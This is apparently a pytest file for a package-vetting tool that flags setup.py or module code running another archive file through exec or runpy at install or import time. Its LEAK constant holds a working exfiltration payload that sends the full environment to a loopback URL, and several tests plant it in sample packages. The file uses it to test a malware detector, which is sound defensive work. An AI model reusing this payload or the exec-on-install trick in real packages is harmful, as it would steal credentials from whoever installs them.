"""Code run from another file of the archive (ADR 0032): ``exec(open(p).read())`` and
``runpy.run_path(p)`` at install or import read ``p`` as code of that moment."""

from __future__ import annotations

import ast

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages import runfile
from airlock.imports.packages.analysis import scan_python
from airlock.imports.packages.runfile import resolve, run_files
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import BENIGN, MALICIOUS, sdist, wheel

LEAK = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('http://127.0.0.1:9/c', repr(dict(os.environ)).encode())\n"
)


@pytest.mark.parametrize(
    "key",
    [
        "file-exec",
        "file-exec:path-built-and-read-through-with",
        "file-exec:module-runs-data-on-import",
    ],
)
def test_a_payload_kept_in_a_data_file_and_run_as_code_denies(key: str) -> None:
    filename, data = MALICIOUS[key]
    report = vet(filename, data)
    assert report.verdict is Outcome.DENY, report.to_json()
    assert any(f.rule == "file-exec" for f in report.findings)


def test_a_data_file_run_as_code_holds_even_when_it_looks_harmless() -> None:
    data = sdist(
        "quiet",
        "1.0",
        {
            "setup.py": "from setuptools import setup\nexec(open('quiet.cfg').read())\nsetup()\n",
            "quiet/__init__.py": "",
            "quiet.cfg": "NAME = 'quiet'\n",
        },
    )
    assert vet("quiet-1.0.tar.gz", data).verdict is Outcome.HOLD


@pytest.mark.parametrize(
    "runner",
    [
        "exec(open('tools/ci/_v.py').read())",
        "exec(compile(open('tools/ci/_v.py').read(), 'tools/ci/_v.py', 'exec'))",
        "import runpy\nrunpy.run_path('tools/ci/_v.py')",
        "import pathlib\nexec(pathlib.Path('tools', 'ci', '_v.py').read_text())",
    ],
)
def test_a_script_run_by_setup_py_weighs_in_full(runner: str) -> None:
    # A script outside any package weighs less (nothing imports it); run by setup.py, its
    # module level runs on install and weighs in full.
    files = {"setup.py": runner + "\n", "pkg/__init__.py": "", "tools/ci/_v.py": LEAK}
    data = sdist("pkg", "1.0", files)
    report = vet("pkg-1.0.tar.gz", data)
    assert report.verdict is Outcome.DENY, report.to_json()
    assert not any(f.rule == "file-exec" for f in report.findings)  # a .py file: no hold alone


def test_the_usual_version_read_stays_allowed_and_is_read() -> None:
    report = vet("versioned-1.0.tar.gz", BENIGN["versioned-1.0.tar.gz"])
    assert report.verdict is Outcome.ALLOW, report.to_json()
    setup = (
        "import os\nabout = {}\nwith open(os.path.join(os.path.dirname(__file__), 'v', "
        "'__version__.py')) as f:\n    exec(f.read(), about)\nexec(open('v/_meta.py').read())\n"
    )
    members = frozenset({"v-1/setup.py", "v-1/v/__version__.py", "v-1/v/_meta.py"})
    targets = [resolve(r.target, "v-1/setup.py", members) for r in run_files(setup)]
    assert sorted(t or "" for t in targets) == [
        "v-1/v/__version__.py",
        "v-1/v/_meta.py",
    ]  # read; harmless


def test_paths_fold_from_the_running_files_folder() -> None:
    source = (
        "import os\nhere = os.path.abspath(os.path.dirname(__file__))\n"
        "with open(os.path.join(here, 'pkg', '__version__.py')) as f:\n    exec(f.read(), {})\n"
    )
    runs = run_files(source)
    assert len(runs) == 1
    members = frozenset({"pkg-1.0/setup.py", "pkg-1.0/pkg/__version__.py"})
    assert resolve(runs[0].target, "pkg-1.0/setup.py", members) == "pkg-1.0/pkg/__version__.py"


def test_an_unresolved_path_keeps_todays_verdict() -> None:
    setup = "import sys\nfrom setuptools import setup\nexec(open(sys.argv[1]).read())\nsetup()\n"
    data = sdist("free", "1.0", {"setup.py": setup, "free/__init__.py": "", "free/x.txt": LEAK})
    report = vet("free-1.0.tar.gz", data)
    assert not any(f.rule == "file-exec" for f in report.findings)


def test_a_run_inside_an_uncalled_function_of_a_module_is_not_import_time() -> None:
    init = (
        "import os, runpy\n\n\ndef load():\n"
        "    runpy.run_path(os.path.join(os.path.dirname(__file__), 'x.dat'))\n"
    )
    assert run_files(init, top_only=True) == []
    data = wheel("lazy", "1.0", {"lazy/__init__.py": init, "lazy/x.dat": LEAK})
    assert not any(f.rule == "file-exec" for f in vet("lazy-1.0-py3-none-any.whl", data).findings)


def test_a_with_name_reused_for_the_readme_is_not_the_file_run() -> None:
    # tornado: ``with open("pkg/__init__.py") as f: exec(f.read(), ns)`` then
    # ``with open("README.rst") as f: long_description = f.read()``.
    setup = (
        "ns = {}\nwith open('pkg/__init__.py') as f:\n    exec(f.read(), ns)\n"
        "with open('README.rst') as f:\n    text = f.read()\n"
    )
    assert [r.target for r in run_files(setup)] == ["pkg/__init__.py"]


def test_the_member_pass_answers_for_the_archive_pass_without_a_second_parse(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    setup = "with open('pkg/version.py') as f:\n    exec(f.read(), {})  # one-of-a-kind 7f3a\n"
    scan_python("pkg-1.0/setup.py", setup, install_time=True)  # parses, answers run_files
    parsed: list[str] = []
    empty = ast.Module([], [])

    def counting_parse(source: str, *_: object, **__: object) -> ast.Module:
        parsed.append(source)
        return empty

    monkeypatch.setattr(ast, "parse", counting_parse)
    assert [r.target for r in run_files(setup)] == ["pkg/version.py"]
    assert [r.target for r in run_files(setup, tree=empty)] == ["pkg/version.py"]
    assert parsed == []  # the answer came from the member pass's tree
    assert run_files(setup, top_only=True) == []  # another question: parsed (here, emptily)
    assert len(parsed) == 1


@pytest.mark.parametrize(
    "runner",
    [
        "exec (open('x.cfg').read())",
        "import builtins\nbuiltins.exec(open('x.cfg').read())",
        "(exec)(open('x.cfg').read())",
        "exec(\n    open('x.cfg').read()\n)",
        "execfile('x.cfg')",
        "from runpy import run_path\nrun_path('x.cfg')",
    ],
)
def test_every_spelling_of_a_run_passes_the_text_test(runner: str) -> None:
    # The text test before the parse looks for ``exec`` as a whole name (issue 16): each
    # way of writing the call still names it so, and the run is found.
    assert [r.target for r in run_files(runner + "\n")] == ["x.cfg"]
    data = sdist(
        "spelt", "1.0", {"setup.py": runner + "\n", "spelt/__init__.py": "", "x.cfg": LEAK}
    )
    report = vet("spelt-1.0.tar.gz", data)
    assert report.verdict is Outcome.DENY, report.to_json()
    assert any(f.rule == "file-exec" for f in report.findings)


def test_words_that_only_contain_exec_are_not_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    # ``executable``, ``execute`` and ``exec_module`` name no run: the file is not parsed
    # a second time for this pass (one popular module in ten was).
    def no_parse(*_: object, **__: object) -> None:
        raise AssertionError("parsed")

    monkeypatch.setattr(ast, "parse", no_parse)
    source = "import sys\ncmd = [sys.executable]\ncursor.execute(q)\nspec.loader.exec_module(m)\n"
    assert run_files(source) == []


def test_a_helper_sends_back_only_the_answers_it_added(monkeypatch: pytest.MonkeyPatch) -> None:
    """ADR 0186: the helper process sends this process the ``run_files`` answers it kept while
    vetting a package, from a record of its own, not a copy of every answer before and after."""
    monkeypatch.setattr(runfile, "_REMEMBERED", type(runfile._REMEMBERED)())
    monkeypatch.setattr(runfile, "_ADDED", None)
    run_files("exec(open('a.py').read())\n")
    assert runfile.added() == {}  # the first call starts the record
    run_files("exec(open('b.py').read())\n")
    run_files("exec(open('a.py').read())\n")  # known already: not new
    got = runfile.added()
    assert [found[0].target for found in got.values()] == ["b.py"]
    assert runfile.added() == {}
